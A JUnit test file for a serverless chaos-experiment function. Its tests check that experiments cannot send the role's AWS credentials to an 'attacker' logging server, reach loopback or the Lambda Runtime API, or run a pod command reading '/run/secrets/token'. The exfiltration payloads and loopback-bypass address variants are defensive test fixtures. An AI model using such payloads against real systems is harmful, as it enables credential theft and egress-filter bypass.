package dev.chaosaction.function;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.chaosaction.aws.s3.S3TestServer;
import dev.chaosaction.kubernetes.Kubernetes;
import dev.chaosaction.testing.LocalServer.Reply;
import dev.chaosaction.testing.LocalServer;
import dev.chaosaction.value.Json;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue 11, played on loopback: whoever writes an experiment (an S3 object, an invoke payload) gets only what the
 * deployment allows. A logging server stands for the attacker's host; the function's environment holds the role's
 * credentials as Lambda sets them.
 */
@Timeout(60)
class TrustBoundaryTest {
    private static final String SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    private final S3TestServer s3 = new S3TestServer().bucket(Harness.BUCKET);
    private final LocalServer attacker = new LocalServer().reply("/collect", Reply.text(200, "thanks"));

    @AfterEach
    void stop() {
        attacker.close();
        s3.close();
    }

    /** The function as deployed, its role's credentials in the environment, with {@code settings} on top. */
    private Harness function(String... settings) {
        Map<String, String> env = new HashMap<>(Map.of("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE",
                "AWS_SECRET_ACCESS_KEY", SECRET, "AWS_SESSION_TOKEN", "IQoJb3JpZ2luX2VjEXAMPLE",
                "APP_TOKEN", "app-token-value"));
        for (int i = 0; i < settings.length; i += 2) env.put(settings[i], settings[i + 1]);
        return Harness.s3(s3, env);
    }

    /** An HTTP probe posting {@code ${stolen}} to {@code url}, with the configuration {@code configuration}. */
    private static String experiment(String url, String configuration) {
        return """
                {"title": "exfiltrate", "description": "d", "configuration": %s,
                 "method": [{"type": "probe", "name": "post", "provider": {"type": "http", "method": "POST",
                   "url": "%s", "arguments": {"k": "${stolen}"}}}]}""".formatted(configuration, url);
    }

    private static String envEntry(String key) {
        return "{\"stolen\": {\"type\": \"env\", \"key\": \"" + key + "\"}}";
    }

    @SuppressWarnings("unchecked")
    private static List<String> errorPaths(Map<String, Object> response) {
        return ((List<Map<String, Object>>) response.get("errors")).stream().map(e -> (String) e.get("path")).toList();
    }

    private void assertNothingSent() {
        assertEquals(List.of(), attacker.requests(), "the logging server received something");
    }

    @ParameterizedTest
    @ValueSource(strings = {"AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID"})
    void theRolesCredentialsAreNotReadableThroughConfiguration(String key) {
        Map<String, Object> response = function().invoke(experiment(attacker.url("/collect"), envEntry(key)));
        assertEquals("invalid", response.get("status"), response.toString());
        assertEquals(List.of("/configuration/stolen"), errorPaths(response));
        assertNothingSent();
    }

    @Test
    void evenAnAllowListNamingThemDoesNotExposeTheRuntimesVariables() {
        Map<String, Object> response = function(FunctionConfig.ALLOWED_ENV, "AWS_*,AWS_SECRET_ACCESS_KEY")
                .invoke(experiment(attacker.url("/collect"), envEntry("AWS_SECRET_ACCESS_KEY")));
        assertEquals("invalid", response.get("status"), response.toString());
        assertTrue(Json.write(response).contains("belongs to the runtime"), response.toString());
        assertNothingSent();
    }

    @Test
    void aVariableTheDeploymentAllowsIsReadable() {
        Map<String, Object> response = function(FunctionConfig.ALLOWED_ENV, "APP_*")
                .invoke(experiment(attacker.url("/collect"), envEntry("APP_TOKEN")));
        assertEquals("completed", response.get("status"), response.toString());
        assertTrue(attacker.requests().getFirst().body().contains("app-token-value"));
    }

    @Test
    void thePayloadsConfigurationCannotAddEnvEntries() {
        String payload = "{\"experiment\": " + experiment(attacker.url("/collect"), "{\"stolen\": \"harmless\"}")
                + ", \"configuration\": " + envEntry("APP_TOKEN") + "}";
        Map<String, Object> response = function(FunctionConfig.ALLOWED_ENV, "APP_*").invoke(payload);
        assertEquals("invalid", response.get("status"), response.toString());
        assertEquals(List.of("/configuration/stolen"), errorPaths(response));
        assertNothingSent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"127.0.0.1", "2130706433", "127.1", "[::ffff:127.0.0.1]", "localhost"})
    void loopbackIsRefusedByDefaultAndTheActivityFailsWithoutSendingAnything(String host) {
        Harness function = function(FunctionConfig.EGRESS_ALLOW, "");
        Map<String, Object> response = function.invoke(experiment("http://" + host + ":" + attacker.port()
                + "/collect", "{\"stolen\": \"x\"}"));
        assertEquals("completed", response.get("status"), response.toString());
        String log = String.join("\n", function.lines);
        assertTrue(log.contains("is refused"), log);
        assertNothingSent();
    }

    @Test
    void aProbeToleranceCannotPostTheProbesOutputToARefusedHost() {
        String experiment = """
                {"title": "post the output", "description": "d",
                 "steady-state-hypothesis": {"title": "h", "probes": [{"type": "probe", "name": "read",
                   "provider": {"type": "python", "module": "test.fn", "func": "echo", "arguments": {"value": "data"}},
                   "tolerance": {"type": "probe", "name": "send", "provider": {"type": "http", "method": "POST",
                     "url": "%s", "arguments": {}}}}]},
                 "method": []}""".formatted(attacker.url("/collect"));
        Harness function = function(FunctionConfig.EGRESS_ALLOW, "");
        Map<String, Object> response = function.invoke(experiment);
        assertEquals("the steady state was not met before the method; the method was skipped", response.get("reason"),
                response.toString());
        assertNothingSent();
    }

    @Test
    void aPrometheusServerTheExperimentNamesIsEgressLikeAnyOther() {
        attacker.reply("/api/v1/query", Reply.json(200, "{\"status\": \"success\", \"data\": {}}"));
        Map<String, String> env = new HashMap<>(Map.of(FunctionConfig.EGRESS_ALLOW, ""));
        Harness function = Harness.s3(s3, env, ChaosFunction.libraries());
        Map<String, Object> response = function.invoke("""
                {"title": "metrics", "description": "d", "configuration": {"prometheus_base_url": "%s"},
                 "method": [{"type": "probe", "name": "q", "provider": {"type": "python",
                   "module": "chaosprometheus.probes", "func": "query", "arguments": {"query": "up"}}}]}"""
                .formatted(attacker.url("")));
        assertEquals("completed", response.get("status"), response.toString());
        String log = String.join("\n", function.lines);
        assertTrue(log.contains("is refused"), log);
        assertEquals(List.of(), attacker.requests(), "the Prometheus API was asked");
    }

    @Test
    void theRuntimeApiIsRefusedEvenWhenLoopbackIsAllowed() {
        Harness function = function(FunctionConfig.EGRESS_ALLOW, "127.0.0.1",
                FunctionConfig.RUNTIME_API, "127.0.0.1:" + attacker.port());
        Map<String, Object> response = function.invoke(experiment(attacker.url("/2018-06-01/runtime/invocation/next"),
                "{\"stolen\": \"x\"}"));
        assertEquals("completed", response.get("status"), response.toString());
        assertTrue(String.join("\n", function.lines).contains("Lambda Runtime API"), function.lines.toString());
        assertNothingSent();
    }

    @Test
    void execInPodsAndReadPodLogsAreOptIn() {
        String experiment = """
                {"experiment": {"title": "read the pods", "description": "d", "method": [
                  {"type": "action", "name": "exec", "provider": {"type": "python", "module": "chaosk8s.pod.actions",
                   "func": "exec_in_pods", "arguments": {"cmd": "cat /run/secrets/token", "label_selector": "app=web"}}},
                  {"type": "probe", "name": "logs", "provider": {"type": "python", "module": "chaosk8s.pod.probes",
                   "func": "read_pod_logs", "arguments": {"label_selector": "app=web"}}}]},
                 "settings": {"dry": "activities"}}""";
        Map<String, Object> refused = Harness.s3(s3, Map.of(), List.of(Kubernetes.libraryFactory())).invoke(experiment);
        assertEquals("invalid", refused.get("status"), refused.toString());
        assertEquals(List.of("/experiment/method/0/provider/func", "/experiment/method/1/provider/func"),
                errorPaths(refused));
        assertTrue(Json.write(refused).contains(FunctionConfig.ALLOWED_FUNCTIONS), refused.toString());
        Map<String, Object> allowed = Harness.s3(s3, Map.of(FunctionConfig.ALLOWED_FUNCTIONS,
                "exec_in_pods, chaosk8s.pod.probes.read_pod_logs"), List.of(Kubernetes.libraryFactory()))
                .invoke(experiment.replace("read the pods", "read the pods, allowed"));
        assertEquals("completed", allowed.get("status"), allowed.toString());
    }
}
